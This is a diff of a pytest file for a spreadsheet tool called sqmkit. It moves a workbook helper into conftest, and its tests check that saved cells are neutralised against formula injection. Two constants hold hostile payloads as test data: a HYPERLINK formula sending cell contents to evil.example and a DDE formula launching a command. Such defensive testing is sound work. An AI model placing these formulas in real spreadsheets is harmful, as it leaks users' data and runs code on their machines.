@@ -16,6 +16,8 @@ import pytest
 
 from sqmkit import formulas, io, report
 from sqmkit.events import EventMapping, import_events
+from conftest import make_workbook
+
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
 DDE = "=cmd|' /C calc'!A0"
@@ -158,15 +160,6 @@ CAUSES = ("问题编号,原因编号,类别,原因,上级原因,票数,已验证
           "P01,F03,法,流程复杂,,2,否,@备注\r\n")
 
 
-def workbook(tmp_path: Path, files: dict[str, bytes]) -> Path:
-    folder = tmp_path / "wb"
-    (folder / "data").mkdir(parents=True)
-    (folder / "sqmkit.yaml").write_text("client: 测试\nlang: zh\n", encoding="utf-8")
-    for name, content in files.items():
-        (folder / "data" / name).write_bytes(content)
-    return folder
-
-
 def add_row(frame: pd.DataFrame, **values) -> pd.DataFrame:
     out = pd.concat([frame, pd.DataFrame([values], index=[frame.index.max() + 1])])
     out.attrs = frame.attrs
@@ -174,7 +167,7 @@ def add_row(frame: pd.DataFrame, **values) -> pd.DataFrame:
 
 
 def test_a_workshop_save_neutralises_only_the_cells_typed_or_changed(tmp_path):
-    folder = workbook(tmp_path, {"causes.csv": CAUSES.encode("gbk")})
+    folder = make_workbook(tmp_path, {"causes.csv": CAUSES.encode("gbk")})
     causes = io.load_workbook(folder).get("causes")
     causes.loc[2, "cause"] = HYPERLINK                                 # F03 edited; its evidence '@备注' was not
     edited = add_row(causes, problem_id="P01", cause_id="F04", category="机", cause=DDE, parent_id=None,
@@ -192,7 +185,7 @@ def test_a_workshop_save_neutralises_only_the_cells_typed_or_changed(tmp_path):
 
 
 def test_a_blank_written_in_the_columns_own_spelling_is_not_neutralised(tmp_path):
-    folder = workbook(tmp_path, {"causes.csv": CAUSES.encode("gbk")})
+    folder = make_workbook(tmp_path, {"causes.csv": CAUSES.encode("gbk")})
     causes = io.load_workbook(folder).get("causes")
     edited = add_row(causes, problem_id="P01", cause_id="F04", category="机", cause="@系统", evidence=None)
     io.write_table(folder, "causes", edited)
@@ -202,7 +195,7 @@ def test_a_blank_written_in_the_columns_own_spelling_is_not_neutralised(tmp_path
 
 
 def test_an_xlsx_save_writes_string_cells_never_formulas(tmp_path):
-    folder = workbook(tmp_path, {})
+    folder = make_workbook(tmp_path, {})
     path = folder / "data" / "complaints.xlsx"
     book = openpyxl.Workbook()
     sheet = book.active
